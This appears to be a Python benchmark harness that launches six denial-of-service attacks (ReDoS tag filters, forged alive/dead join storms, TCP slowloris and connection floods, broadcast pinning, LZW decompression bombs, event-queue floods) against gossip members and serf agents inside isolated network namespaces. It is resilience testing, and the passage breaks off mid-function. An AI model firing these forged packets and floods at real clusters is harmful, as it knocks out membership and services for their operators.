#!/usr/bin/env python3
"""Six attacks on a gossip member, the Python one and Debian's ``serf agent`` in the same run.

    python bench/gossip_attacks.py [--attack NAME ...] [--kinds threads,asyncio,agent]
                                   [--json out.json] [--impl-path DIR] [--peers 3] [--tiny]

Everything happens on a LAN of network namespaces this script creates
(tests/netlab.py: 10.250.0.N behind a bridge in a namespace of its own; never
the machine's interfaces), removed on exit, error and Ctrl-C. Host 1 is the
victim, hosts 2-4 healthy peers of the same kind that joined it, host 5 the
attacker, host 6 a prober (a memberlist ping to the victim every 0.1 s, its
acks timed: ``max_rtt_s``, ``lost``, ``stall_s`` the longest time without
any ack), hosts 7-11 where real members join from (one each). Each attack
starts a fresh cluster for each kind of victim, in turn:

- ``threads``: a Python ``SerfService`` process (this file run with ``--member``);
- ``asyncio``: the same with ``AsyncSerfService``;
- ``agent``: Debian's ``serf agent`` (tests/serflab.py ``Agent``).

The Python members import mcastmember from ``--impl-path`` when given (it
goes first on their PYTHONPATH; each member reports the file it imported,
checked), else from wherever this interpreter finds it. The attack messages
are built with the project's own encoders (mcastmember/gossip/memberlist/messages.py,
framing.py, lzw.py, serf/messages.py) and sent from the attacker's plain UDP
and TCP sockets to the victim only. Each attack stops by itself.

============  ==================================================================  ==========================
attack        what the attacker does                                              what is measured
============  ==================================================================  ==========================
redos         one Serf query (no rebroadcast) whose tag filter is ``.*`` nine     how long the victim does
              times and ``!``, against the victim's 36-character tag; then        not answer pings
              the same against a tag filling its 512-byte meta                    (``stall_s``), peers'
                                                                                   ``failed`` marks
join_storm    10,000 invented members in UDP alive messages, 8,000 more, then a   whether a real member that
              forged dead message for each (5,000 messages a second)              joins next is listed, how
                                                                                   fast; victim CPU seconds
stream_slots  40 silent TCP connections from the attacker, then 5 joins (a        joins answered within
              push/pull each, as memberlist's join), each from a host of its      10 s, of 5
              own; then 2,000 connections at once, then 5 joins
broadcast_pin one LZW-compressed datagram of 1,024 user events whose Serf       peers (of 3) that get the
              messages take 4,096 bytes each (4 MiB: each too big for a gossip    victim's own event within
              packet); then the victim's own user event; the same events again   5 s, after each; ``left``
              in plain datagrams of 15, the victim's own event; then its          or ``failed`` after the
              graceful leave                                                      leave
cpu_starve    15 LZW bombs a second for 20 s (64 KB datagrams inflating to        peers' ``failed`` marks,
              86 MB, or as far as the victim allows); once it answers pings       max ping RTT, pings lost,
              again, four concurrent push/pulls of 100,000 invented nodes each    victim CPU seconds
event_queue   the victim has a slow listener (1 s per event; asyncio: an          victim RSS growth (MB),
              ``events()`` stream read as slowly; agent: a ``sleep 1`` event      each phase from its start
              handler); 3,000 user events of 60 KB, 200 a second; then 3,000
              of 9 KiB (the largest any Serf member sends)
============  ==================================================================  ==========================

Prints one table (attack, figure, one column per kind) and writes every
figure, the load average around each run, the commit and the module file of
the Python members to ``--json``. ``--tiny`` shrinks every attack (the
suite's smoke test). Needs root, iproute2 and ``serf`` (for the agent).
"""

from __future__ import annotations

import argparse
import json
import os
import pathlib
import resource
import select
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
import uuid
from types import SimpleNamespace

HERE = pathlib.Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parent / "tests"))
sys.path.insert(0, str(HERE))

from gossip_real import (AGENT_EVENT, AGENT_KINDS, CLK_TCK, Proc, compiled_parts, load_average,  # noqa: E402
                         wait_until)
from netlab import JsonProcess, Lan, run_in_netns  # noqa: E402

PORT = 7946
KINDS = ("threads", "asyncio", "agent")
VICTIM, ATTACKER, PROBER, JOINER = 0, 4, 5, 6
#: the joins of stream_slots come from hosts JOINER.. (a member joins from its own host)
JOIN_HOSTS = 5
HOSTS = JOINER + JOIN_HOSTS
#: names the members do not report one by one (invented members, attack events)
FAKE, ATTACK = "fake-", "atk-"
#: memberlist versions of the invented nodes: pmin, pmax, pcur, dmin, dmax, dcur
VSN = bytes((1, 5, 2, 2, 5, 4))
PROBE_INTERVAL = 0.1
#: how long a join (its push/pull) may take: memberlist's TCPTimeout
JOIN_TIMEOUT = 10.0
SLOW_LISTENER_S = 1.0

#: the full run's sizes; ``--tiny`` the smoke test's
FULL = dict(short_tag=36, redos_stars=9, short_window=45.0, long_window=20.0,
            storm_first=10_000, storm_more=8_000, storm_rate=5_000, storm_per_packet=50, join_wait=30.0,
            slowloris=40, flood=2_000, joins=5,
            pin_events=1_024, pin_event_bytes=4_096, event_wait=5.0, leave_wait=15.0,
            bombs_per_s=15, bomb_seconds=20.0, bomb_bytes=86_000_000, recover_wait=30.0, pushpulls=4,
            pushpull_nodes=100_000,
            flood_events=3_000, flood_payload=60_000, flood_rate=200)
TINY = dict(FULL, short_tag=12, short_window=5.0, long_window=3.0,
            storm_first=200, storm_more=100, join_wait=10.0,
            slowloris=3, flood=20, joins=2,
            pin_events=20, event_wait=3.0, leave_wait=8.0,
            bombs_per_s=2, bomb_seconds=1.0, bomb_bytes=1_000_000, recover_wait=5.0, pushpulls=1, pushpull_nodes=1_000,
            flood_events=20, flood_rate=50)


def say(*args):
    print(*args, file=sys.stderr, flush=True)


def cpu_ticks(pid):
    try:
        return Proc.cpu_ticks(SimpleNamespace(pid=pid))
    except (OSError, IndexError):
        return None


def rss_kb(pid):
    try:
        return Proc.rss_kb(SimpleNamespace(pid=pid))
    except OSError:
        return None


# ----------------------------------------------------------------- a Python member (its own process)

def member_main(spec):
    """One SerfService or AsyncSerfService on 7946: JSON lines on stdout
    (``event``: ready, joining, member, user, stats, sent-event, left), its
    stats on SIGUSR1, its own user event on SIGUSR2 (``own_event``), a
    graceful leave on SIGTERM."""
    import mcastmember
    from mcastmember.gossip.serf.node import SerfMemberEvent, UserEventReceived

    lock = threading.Lock()
    counts = {"fake_member_events": 0, "attack_user_events": 0, "events_lost": 0}
    slow = spec.get("slow", 0.0)

    def out(item):
        with lock:
            sys.stdout.write(json.dumps(item) + "\n")
            sys.stdout.flush()

    def describe(event):
        """The line for ``event``, or None (counted) for the attack's own."""
        if isinstance(event, SerfMemberEvent):
            if event.member.name.startswith(FAKE):
                counts["fake_member_events"] += 1
                return None
            return {"event": "member", "kind": event.kind, "name": event.member.name, "t": time.monotonic()}
        if isinstance(event, UserEventReceived):
            if event.name.startswith(ATTACK):
                counts["attack_user_events"] += 1
                return None
            return {"event": "user", "name": event.name, "t": time.monotonic(),
                    "payload": bytes(event.payload[:64]).decode("utf-8", "replace")}
        if getattr(event, "kind", None) == "events_lost":
            counts["events_lost"] += 1
        return None

    def stats(svc):
        return {"event": "stats", "stats": {**svc.stats(), **counts}}

    sent = [0]

    def own_event(svc):
        """The member's own user event: the payload given, then -1, -2... for the later ones."""
        payload = event["payload"] + (f"-{sent[0]}" if sent[0] else "")
        sent[0] += 1
        svc.user_event(event["name"], payload.encode(), False)
        out({"event": "sent-event", "t": time.monotonic(), "payload": payload})

    ready = {"event": "ready", "file": mcastmember.__file__, "compiled": compiled_parts(), "pid": os.getpid()}
    seeds = [(seed, PORT) for seed in spec.get("seeds", ())]
    event = spec.get("user_event") or {"name": "probe", "payload": "probe"}
    if spec["front"] == "asyncio":
        import asyncio
        from mcastmember.gossip.fronts.aio import AsyncSerfService

        async def run():
            loop = asyncio.get_running_loop()
            leave = asyncio.Event()
            svc = AsyncSerfService(spec["name"], spec["addr"], PORT, tags=spec.get("tags", {}))
            loop.add_signal_handler(signal.SIGUSR1, lambda: out(stats(svc)))
            loop.add_signal_handler(signal.SIGUSR2, lambda: own_event(svc))
            loop.add_signal_handler(signal.SIGTERM, leave.set)

            def listen(ev):
                line = describe(ev)
                if line:
                    out(line)

            svc.add_listener(listen)
            await svc.start()

            async def slow_reader():
                # the asyncio way to be slow: a stream of events() read slowly
                async with svc.events() as stream:
                    async for ev in stream:
                        if isinstance(ev, UserEventReceived):
                            await asyncio.sleep(slow)
                        elif getattr(ev, "kind", None) == "events_lost":
                            counts["events_lost"] += 1

            reader = asyncio.ensure_future(slow_reader()) if slow else None
            if seeds:
                out({"event": "joining", "t": time.monotonic()})
                try:
                    ready["joined"] = (await svc.join(seeds, timeout=JOIN_TIMEOUT)).joined
                except (TimeoutError, asyncio.TimeoutError, OSError) as exc:
                    ready["error"] = repr(exc)
            out(ready)
            await leave.wait()
            started = time.monotonic()
            try:
                done = await svc.leave()
                out({"event": "left", "t0": started, "t": time.monotonic(), "ok": done.ok})
            except (TimeoutError, asyncio.TimeoutError) as exc:
                out({"event": "left", "t0": started, "t": time.monotonic(), "ok": False, "error": repr(exc)})
            if reader is not None:
                reader.cancel()
            await svc.stop()

        asyncio.run(run())
        return
    from mcastmember.gossip.fronts.service import SerfService
    # taken with sigwait; the service's threads inherit the mask
    wanted = {signal.SIGUSR1, signal.SIGUSR2, signal.SIGTERM}
    signal.pthread_sigmask(signal.SIG_BLOCK, wanted)
    svc = SerfService(spec["name"], spec["addr"], PORT, tags=spec.get("tags", {}))

    def listen(ev):
        line = describe(ev)
        if line:
            out(line)
        if slow and isinstance(ev, UserEventReceived):
            time.sleep(slow)

    svc.add_listener(listen)
    svc.start()
    if seeds:
        out({"event": "joining", "t": time.monotonic()})
        try:
            ready["joined"] = svc.join(seeds, timeout=JOIN_TIMEOUT).joined
        except (TimeoutError, OSError) as exc:
            ready["error"] = repr(exc)
    out(ready)
    while True:
        sig = signal.sigwait(wanted)
        if sig == signal.SIGUSR1:
            out(stats(svc))
        elif sig == signal.SIGUSR2:
            own_event(svc)
        else:
            break
    started = time.monotonic()
    try:
        done = svc.leave()
        out({"event": "left", "t0": started, "t": time.monotonic(), "ok": done.ok})
    except TimeoutError as exc:
        out({"event": "left", "t0": started, "t": time.monotonic(), "ok": False, "error": repr(exc)})
    svc.stop()


# ----------------------------------------------------------------- the prober (its own process)

def probe_main(spec):
    """A memberlist ping to ``target`` every PROBE_INTERVAL: prints each
    ping and each ack (``seq``, ``t``) as JSON lines, until killed."""
    from mcastmember.gossip.memberlist import framing
    from mcastmember.gossip.memberlist import messages
    from mcastmember.gossip.memberlist.errors import GossipWireError
    from mcastmember.gossip.memberlist.layout import MessageType
    from mcastmember.gossip.memberlist.limits import Limits

    limits = Limits()
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind((spec["addr"], PORT))
    target = (spec["target"], PORT)
    seq, due = 0, time.monotonic()
    while True:
        now = time.monotonic()
        if now >= due:
            seq += 1
            try:
                sock.sendto(messages.encode(messages.Ping(seq_no=seq, node=spec["name"])), target)
            except OSError:
                pass
            print(json.dumps({"event": "ping", "seq": seq, "t": now}), flush=True)
            due += PROBE_INTERVAL
            continue
        ready, _, _ = select.select([sock], [], [], due - now)
        if not ready:
            continue
        try:
            data, _addr = sock.recvfrom(65536)
        except OSError:
            continue
        arrived = time.monotonic()
        try:
            parts, _cut = framing.split_messages(framing.open_packet(data, limits), limits)
            acks = [messages.decode(p, limits) for p in parts if p[0] == MessageType.ACK]
        except GossipWireError:
            continue
        for ack in acks:
            print(json.dumps({"event": "ack", "seq": ack.seq_no, "t": arrived}), flush=True)


def probe_window(prober, start, end):
    """What the prober saw of the pings it sent in [start, end): how many,
    how many never answered, the longest round trip, and ``stall_s`` the
    longest time in the window without any ack arriving."""
    lines = [item for _t, item in list(prober.lines)]
    pings = [(i["seq"], i["t"]) for i in lines if i["event"] == "ping" and start <= i["t"] < end]
    acks = {}
    for i in lines:
        if i["event"] == "ack":
            acks.setdefault(i["seq"], i["t"])
    rtts = [acks[s] - t for s, t in pings if s in acks]
    edges = [start] + sorted(t for t in acks.values() if start <= t <= end) + [end]
    return {"pings": len(pings), "lost": sum(1 for s, _t in pings if s not in acks),
            "max_rtt_s": round(max(rtts), 3) if rtts else None,
            "stall_s": round(max(b - a for a, b in zip(edges, edges[1:])), 2)}


def answering_again(prober, since):
    """When the first ping sent ``since`` or later that came back within
    0.5 s was sent (None: none yet)."""
    lines = [item for _t, item in list(prober.lines)]
    sent = {i["seq"]: i["t"] for i in lines if i["event"] == "ping" and i["t"] >= since}
    prompt = [sent[i["seq"]] for i in lines
              if i["event"] == "ack" and i["seq"] in sent and i["t"] - sent[i["seq"]] < 0.5]
    return min(prompt, default=None)


# ----------------------------------------------------------------- the members, as the harness sees them

class PyNode:
    """A Python member process (``member_main``) on host ``index``."""

    def __init__(self, lab, index, name, front, seeds=(), tags=None, slow=0.0, user_event=None):
        self.lab, self.index, self.name, self.front = lab, index, name, front
        spec = {"name": name, "addr": lab.lan.address(index), "front": front, "seeds": list(seeds),
                "tags": tags or {"role": "py"}, "slow": slow, "user_event": user_event}
        argv = ["env", *lab.member_env, sys.executable, str(HERE / "gossip_attacks.py"), "--member", json.dumps(spec)]
        self.proc = JsonProcess(lab.lan, index, argv)
        self.pid = self.proc.proc.pid       # ip netns exec and env both exec: the member's own pid
        lab.nodes.append(self)

    def ready(self, timeout=30.0):
        _t, item = self.proc.wait_for(lambda i: i["event"] == "ready", timeout)
        return item

    def cursor(self):
        return len(self.proc.lines)

    def marks(self, name, since=0):
        """The marks (joined, failed, left...) this member made of ``name`` since ``since``: [(kind, time)]."""
        return [(i["kind"], i["t"]) for _t, i in list(self.proc.lines)[since:]
                if i["event"] == "member" and i["name"] == name]

    def got_event(self, payload, since=0):
        return any(i["event"] == "user" and i["payload"] == payload for _t, i in list(self.proc.lines)[since:])

    def user_event(self):
        self.proc.proc.send_signal(signal.SIGUSR2)

    def leave(self):
        self.proc.proc.send_signal(signal.SIGTERM)

    def stats(self):
        try:
            return self.proc.stats(timeout=5.0)
        except AssertionError:
            return None

    def kill(self):
        if self.proc.proc.poll() is None:
            self.proc.proc.kill()
        try:
            self.proc.proc.wait(5)
        except subprocess.TimeoutExpired:
            pass


class AgentNode:
    """A ``serf agent`` (tests/serflab.py ``Agent``) on host ``index``; its
    config file adds ``tags`` and ``handlers``."""

    def __init__(self, lab, index, name, seeds=(), tags=None, handlers=(), received=None):
        from serflab import Agent
        self.lab, self.index, self.name = lab, index, name
        config = lab.tmp / f"{name}-{uuid.uuid4().hex[:6]}.json"
        config.write_text(json.dumps({"tags": tags or {}, "event_handlers": list(handlers)}))
        self.received = pathlib.Path(received or lab.tmp / f"{name}-{uuid.uuid4().hex[:6]}.events")
        self.agent = Agent(lab.lan, index, name, self.received, join=[f"{s}:{PORT}" for s in seeds], config=config)
        self.pid = self.agent.proc.pid
        lab.nodes.append(self)

    def ready(self, timeout=30.0):
        if not wait_until(lambda: self.agent.proc.poll() is None and self.agent.serf("info") is not None,
                          timeout, 0.2):
            raise RuntimeError(f"agent {self.name} did not start: {''.join(self.agent.log[-5:])}")
        return {"file": "serf agent", "compiled": ["go"]}

    def cursor(self):
        return len(self.agent.log)

    def marks(self, name, since=0):
        """As PyNode.marks; the time is when the harness reads it (callers poll)."""
        found = []
        for line in list(self.agent.log)[since:]:
            m = AGENT_EVENT.search(line)
            if m and m.group(2) == name:
                found.append((AGENT_KINDS[m.group(1)], None))
        return found

    def got_event(self, payload, since=0):
        try:
            return payload in self.received.read_text(errors="replace")
        except OSError:
            return False

    def user_event(self, name, payload):
        return self.agent.run("event", "-coalesce=false", name, payload)

    def leave(self):
        def run():
            try:
                self.agent.run("leave")
            except subprocess.TimeoutExpired:
                pass
        threading.Thread(target=run, daemon=True).start()

    def kill(self):
        self.agent.stop(signal.SIGKILL)


class Lab:
    """The LAN, the attacker's sockets, and every process started (all killed on the way out)."""

    def __init__(self, lan, impl_path, tmp, sizes, peers):
        self.lan, self.tmp, self.sizes, self.peers = lan, tmp, sizes, peers
        self.nodes = []
        path = [str(impl_path)] if impl_path else []
        if os.environ.get("PYTHONPATH"):
            path.append(os.environ["PYTHONPATH"])
        self.member_env = [f"PYTHONPATH={os.pathsep.join(path)}"] if path else []
        self.impl_path = impl_path
        self.victim_ip = lan.address(VICTIM)
        self.attacker_ip = lan.address(ATTACKER)

    def addr(self, index):
        return self.lan.address(index)

    def udp(self, index=ATTACKER):
        """A UDP socket of host ``index`` (the attacker by default)."""
        def make():
            sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
            sock.bind((self.addr(index), 0))
            return sock
        return run_in_netns(self.lan.hosts[index], make)

    def tcp_sockets(self, count, index=ATTACKER):
        def make():
            return [socket.socket(socket.AF_INET, socket.SOCK_STREAM) for _ in range(count)]
        return run_in_netns(self.lan.hosts[index], make)

    def prober(self, name):
        spec = {"addr": self.addr(PROBER), "target": self.victim_ip, "name": name}
        proc = JsonProcess(self.lan, PROBER, [sys.executable, str(HERE / "gossip_attacks.py"), "--probe",
                                               json.dumps(spec)])
        self.nodes.append(SimpleNamespace(kill=lambda: (proc.proc.kill(), proc.proc.wait(5))))
        proc.wait_for(lambda i: i["event"] == "ack", 15.0)
        return proc

    def cluster(self, kind, tags=None, slow=False, user_event=None):
        """A victim of ``kind`` and the peers that joined it, once every one lists every other."""
        names = ["victim"] + [f"peer{i}" for i in range(1, self.peers + 1)]
        if kind == "agent":
            handlers = ["user=sleep 1"] if slow else []
            victim = AgentNode(self, VICTIM, "victim", tags=tags, handlers=handlers,
                               received=os.devnull if slow else None)
            victim.ready()
            peers = [AgentNode(self, i, names[i], seeds=[self.victim_ip], tags={},
                               received=os.devnull if slow else None) for i in range(1, self.peers + 1)]
            for p in peers:
                p.ready()
            def all_alive():
                listed = victim.agent.members()
                return all(listed.get(n, {}).get("status") == "alive" for n in names)
            if not wait_until(all_alive, 30.0, 0.3):
                raise RuntimeError(f"the agents did not converge: {victim.agent.members()}")
            return victim, peers
        victim = PyNode(self, VICTIM, "victim", kind, tags=tags, slow=SLOW_LISTENER_S if slow else 0.0,
                        user_event=user_event)
        ready = victim.ready()
        peers = [PyNode(self, i, names[i], kind, seeds=[self.victim_ip]) for i in range(1, self.peers + 1)]
        for p in peers:
            p.ready()
        everyone = [victim] + peers

        def converged():
            return all({n for n in names if n != node.name} <= {m for m in names if node.marks(m)}
                       for node in everyone)
        if not wait_until(converged, 30.0, 0.1):
            raise RuntimeError("the Python members did not converge")
        self.check_module(ready)
        victim.info = ready
        return victim, peers

    def check_module(self, ready):
        if self.impl_path and not pathlib.Path(ready["file"]).resolve().is_relative_to(
                pathlib.Path(self.impl_path).resolve()):
            raise RuntimeError(f"the member imported {ready['file']}, not from {self.impl_path}")

    def kill_all(self):
        for node in reversed(self.nodes):
            try:
                node.kill()
            except (OSError, subprocess.SubprocessError):
                pass
        self.nodes = []


def failed_marks(peers, since, victim="victim"):
    """How many times the peers marked the victim failed (cursors ``since``, one per peer)."""
    return sum(1 for p, c in zip(peers, since) for kind, _t in p.marks(victim, c) if kind == "failed")


def send_paced(sock, datagrams, dest, per_second):
    """Send ``datagrams`` to ``dest`` at ``per_second``; (sent, send errors)."""
    start = time.monotonic()
    sent = errors = 0
    for n, data in enumerate(datagrams):
        delay = start + n / per_second - time.monotonic()
        if delay > 0:
            time.sleep(delay)
        try:
            sock.sendto(data, dest)
            sent += 1
        except OSError:         # ENOBUFS, or an ICMP error of an earlier datagram
            errors += 1
    return sent, errors


def packed(parts, per_packet):
    """Messages put in compounds of ``per_packet``."""
    from mcastmember.gossip.memberlist import framing
    return [framing.make_compound(parts[i:i + per_packet]) for i in range(0, len(parts), per_packet)]


def user_message(serf_message):
    """A Serf message as memberlist's user message in a packet."""
    from mcastmember.gossip.memberlist.layout import MessageType
    from mcastmember.gossip.serf import messages as serf_messages
    return bytes((MessageType.USER,)) + serf_messages.encode(serf_message)


# ----------------------------------------------------------------- joining as memberlist does

def join_stream(name, addr):
    """The push/pull a joining member opens with: its own node state and Serf's user state."""
    from mcastmember.gossip.memberlist import framing
    from mcastmember.gossip.memberlist import messages
    from mcastmember.gossip.memberlist.layout import NodeState
    from mcastmember.gossip.serf import messages as serf_messages
    from mcastmember.gossip.serf.tags import encode_tags
    me = messages.PushNodeState(name=name, addr=socket.inet_aton(addr), port=PORT, meta=encode_tags({"role": "joiner"}),
                                incarnation=1, state=NodeState.ALIVE, vsn=VSN)
    state = serf_messages.encode(serf_messages.SerfPushPull(ltime=1, status_ltimes={name: 1}, event_ltime=1,
                                                        query_ltime=1))
    return framing.encode_stream(messages.encode_push_pull(messages.PushPull(join=True, nodes=[me],
                                                                            user_state=state)))


def push_pull_exchange(sock, dest, data, timeout):
    """Connect, send ``data``, read the answer: "ok" (a push/pull came
    back), or why not (refused, closed, timeout, an error message)."""
    from mcastmember.gossip.memberlist import framing
    from mcastmember.gossip.memberlist.errors import GossipWireError, Truncated
    from mcastmember.gossip.memberlist.layout import MessageType
    from mcastmember.gossip.memberlist.limits import Limits
    limits = Limits(max_push_nodes=10_000_000, max_container=1 << 24)
    deadline = time.monotonic() + timeout
    try:
        sock.settimeout(timeout)
        sock.connect(dest)
        sock.sendall(data)
        buf = b""
        while True:
            sock.settimeout(max(0.01, deadline - time.monotonic()))
            chunk = sock.recv(1 << 20)
            if not chunk:
                return "closed" if not buf else "cut short"
            buf += chunk
            try:
                (kind, _msg), _used = framing.decode_stream(buf, limits)
            except Truncated:
                continue
            except GossipWireError as exc:
                return f"bad answer: {exc}"
            return "ok" if kind == MessageType.PUSH_PULL else f"answered {kind.name}"
    except socket.timeout:
        return "timeout"
    except OSError as exc:
        return type(exc).__name__
    finally:
        sock.close()


def joins(lab, count, tag):
    """``count`` members join the victim at once, each from a host of its
    own (hosts 7 to 11; one push/pull each, as memberlist's join): their outcomes."""
    hosts = [JOINER + n % JOIN_HOSTS for n in range(count)]
    socks = [lab.tcp_sockets(1, host)[0] for host in hosts]
    results = [None] * count

    def one(n):
        name = f"joiner-{tag}-{n}"
        results[n] = push_pull_exchange(socks[n], (lab.victim_ip, PORT), join_stream(name, lab.addr(hosts[n])),
                                        JOIN_TIMEOUT)
    threads = [threading.Thread(target=one, args=(n,), daemon=True) for n in range(count)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(JOIN_TIMEOUT + 5)
    return results


# ----------------------------------------------------------------- the six attacks

def tags_for(kind, sizes):
    """The ReDoS victim's tags: ``short`` of the brief's length, ``long``
    filling the node meta to its 512 bytes (the agent's own ``role`` tag counted)."""
    from mcastmember.gossip.serf.tags import encode_tags
    from mcastmember._runtime.errors import ConfigurationError
    tags = {"role": "go" if kind == "agent" else "py", "short": "a" * sizes["short_tag"], "long": ""}
    while True:
        try:
            encode_tags({**tags, "long": tags["long"] + "a"})     # past 512 bytes it raises
        except ConfigurationError:
            return tags
        tags["long"] += "a"


def attack_redos(lab, kind):
    from mcastmember.gossip.serf import messages as serf_messages
    from mcastmember.gossip.serf.layout import QUERY_FLAG_NO_BROADCAST
    sizes = lab.sizes
    tags = tags_for(kind, sizes)
    victim, peers = lab.cluster(kind, tags=tags)
    prober = lab.prober("victim")
    sock = lab.udp()
    time.sleep(1.0)
    pattern = ".*" * sizes["redos_stars"] + "!"
    out = {"pattern": pattern, "short_tag_chars": len(tags["short"]), "long_tag_chars": len(tags["long"])}
    if kind == "agent":     # its own -tag and the config file's, merged
        listed = victim.agent.members().get("victim", {}).get("tags", {})
        out["agent_tags_as_given"] = listed == tags
    for n, (phase, window) in enumerate((("short", sizes["short_window"]), ("long", sizes["long_window"]))):
        cursors = [p.cursor() for p in peers]
        query = serf_messages.Query(ltime=100 + n, id=7 + n, addr=socket.inet_aton(lab.attacker_ip), port=PORT,
                                    source_node="atk", filters=[serf_messages.encode_tag_filter(phase, pattern)],
                                    flags=QUERY_FLAG_NO_BROADCAST, timeout=5_000_000_000, name="atk-redos")
        sent = time.monotonic()
        sock.sendto(user_message(query), (lab.victim_ip, PORT))
        back = wait_until(lambda: time.monotonic() > sent + 2.0 and answering_again(prober, sent + 1.0),
                          window, 0.1)
        end = time.monotonic()
        if back:
            time.sleep(1.5)         # the peers' word on it, if any, comes out now
        seen = probe_window(prober, sent, end)
        out[f"{phase}_stall_s"] = seen["stall_s"] if back else f">{seen['stall_s']}"
        out[f"{phase}_answering_again"] = bool(back)
        out[f"{phase}_max_rtt_s"] = seen["max_rtt_s"]
        out[f"{phase}_failed_marks"] = failed_marks(peers, cursors)
        if not back:
            break
    return out


def attack_join_storm(lab, kind):
    from mcastmember.gossip.memberlist import messages
    sizes = lab.sizes
    victim, peers = lab.cluster(kind)
    prober = lab.prober("victim")
    sock = lab.udp()
    first, more = sizes["storm_first"], sizes["storm_more"]
    here = socket.inet_aton(lab.attacker_ip)

    def alive(i):
        return messages.encode(messages.Alive(incarnation=1, node=f"{FAKE}{i}", addr=here, port=10_000 + i % 50_000,
                                              vsn=VSN))

    def dead(i):
        return messages.encode(messages.Dead(incarnation=1, node=f"{FAKE}{i}", from_="atk"))

    per, rate = sizes["storm_per_packet"], sizes["storm_rate"] / sizes["storm_per_packet"]
    waves = [packed([alive(i) for i in range(first)], per), packed([alive(i) for i in range(first, first + more)], per),
             packed([dead(i) for i in range(first + more)], per)]
    cpu0, start = cpu_ticks(victim.pid), time.monotonic()
    sent = errors = 0
    for wave in waves:
        s, e = send_paced(sock, wave, (lab.victim_ip, PORT), rate)
        sent, errors = sent + s, errors + e
    storm_end = time.monotonic()
    time.sleep(2.0)
    cpu1, end = cpu_ticks(victim.pid), time.monotonic()
    out = {"alive_sent": first + more, "dead_sent": first + more, "datagrams": sent, "send_errors": errors,
           "storm_s": round(storm_end - start, 2),
           "victim_cpu_s": round((cpu1 - cpu0) / CLK_TCK, 2) if cpu0 is not None and cpu1 is not None else None,
           "victim_cpu_share": round((cpu1 - cpu0) / CLK_TCK / (end - start), 3) if cpu1 is not None else None}
    out.update({f"probe_{k}": v for k, v in probe_window(prober, start, end).items()})
    if kind == "agent":
        try:
            listed = victim.agent.members()
            out["victim_lists"] = len(listed)
            out["victim_lists_fake_alive"] = sum(1 for n, m in listed.items() if n.startswith(FAKE)
                                                 and m["status"] == "alive")
        except (subprocess.SubprocessError, ValueError):
            out["victim_lists"] = None
        joiner = AgentNode(lab, JOINER, "joiner")
        joiner.ready()
        cursor = victim.cursor()
        t0 = time.monotonic()
        done = {}

        def join():
            try:
                done["r"] = joiner.agent.run("join", f"{lab.victim_ip}:{PORT}")
            except subprocess.TimeoutExpired:
                done["r"] = (None, "timeout")
        joining = threading.Thread(target=join, daemon=True)
        joining.start()
        listed_at = wait_until(lambda: any(k == "joined" for k, _t in victim.marks("joiner", cursor))
                               and time.monotonic(), sizes["join_wait"], 0.05)
        joining.join(20.0)
        out["joiner_join_ok"] = done.get("r", (None,))[0] == 0
    else:
        stats = victim.stats()
        if stats:
            s = stats
            out["victim_lists"] = s.get("serf_members")
            out["victim_lists_fake_alive"] = None
            out["victim_refused"] = s.get("serf_members_refused")
        joiner = PyNode(lab, JOINER, "joiner", kind, seeds=[lab.victim_ip])
        _t, joining = joiner.proc.wait_for(lambda i: i["event"] == "joining", 30.0)
        t0 = joining["t"]
        found = wait_until(lambda: next((t for k, t in victim.marks("joiner") if k == "joined"), None),
                           sizes["join_wait"], 0.05)
        listed_at = found
        ready = joiner.ready(JOIN_TIMEOUT + 5)
        out["joiner_join_ok"] = bool(ready.get("joined"))
    out["joiner_listed"] = bool(listed_at)
    out["joiner_listed_s"] = round(listed_at - t0, 2) if listed_at else f">{sizes['join_wait']}"
    return out


def attack_stream_slots(lab, kind):
    sizes = lab.sizes
    victim, peers = lab.cluster(kind)
    out = {}
    for phase, count in (("slowloris", sizes["slowloris"]), ("flood", sizes["flood"])):
        socks = lab.tcp_sockets(count)
        for s in socks:
            s.setblocking(False)
            s.connect_ex((lab.victim_ip, PORT))
        # connected once writable without an error
        pending = {s.fileno(): s for s in socks}
        connected = []
        poll = select.poll()
        for fd in pending:
            poll.register(fd, select.POLLOUT)
        end = time.monotonic() + 3.0
        while pending and time.monotonic() < end:
            for fd, _mask in poll.poll(100):
                s = pending.pop(fd)
                poll.unregister(fd)
                if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
                    connected.append(s)
        time.sleep(0.5)
        held = 0
        for s in connected:          # still open on the victim's side: not read as closed
            try:
                held += s.recv(1, socket.MSG_PEEK | socket.MSG_DONTWAIT) != b""
            except BlockingIOError:
                held += 1
            except OSError:
                pass
        results = joins(lab, sizes["joins"], phase)
        for s in socks:
            s.close()
        out[f"{phase}_connections"] = count
        out[f"{phase}_connected"] = len(connected)
        out[f"{phase}_held_open"] = held
        out[f"{phase}_joins_ok"] = sum(r == "ok" for r in results)
        out[f"{phase}_join_results"] = sorted(set(results))
        time.sleep(1.0)
    return out


def pin_event(ltime, size):
    """A user event whose Serf message (what a member queues to gossip on) is ``size`` bytes."""
    from mcastmember.gossip.serf import messages as serf_messages
    event = serf_messages.UserEvent(ltime=ltime, name="atk-pin")
    event.payload = b"A" * (size - len(serf_messages.encode(event)))
    while len(serf_messages.encode(event)) > size:      # a longer payload's length takes more bytes
        event.payload = event.payload[:-1]
    return event


def attack_broadcast_pin(lab, kind):
    """The pinning events come twice: in one compressed datagram (the
    brief's attack), then in plain datagrams of 15 (for a member that
    refuses the first for its size, whether its broadcast queues refuse
    them too); after each the victim's own event, then its leave."""
    from mcastmember.gossip.memberlist import framing
    sizes = lab.sizes
    payload = f"probe-{uuid.uuid4().hex[:8]}"
    victim, peers = lab.cluster(kind, user_event={"name": "probe", "payload": payload})
    sock = lab.udp()
    out = {}
    for n, phase in enumerate(("compressed", "plain")):
        ltime = 1000 + 2 * n * sizes["pin_events"]
        events = [user_message(pin_event(ltime + i, sizes["pin_event_bytes"])) for i in range(sizes["pin_events"])]
        # in compounds: each within a compound part's 65,535 bytes, and a datagram's
        per = max(1, 65_000 // len(events[0]))
        if phase == "compressed":
            datagrams = [framing.compress_message(framing.make_compound(packed(events, per)))]
        else:
            datagrams = packed(events, per)
        send_paced(sock, datagrams, (lab.victim_ip, PORT), 50)
        time.sleep(1.0)
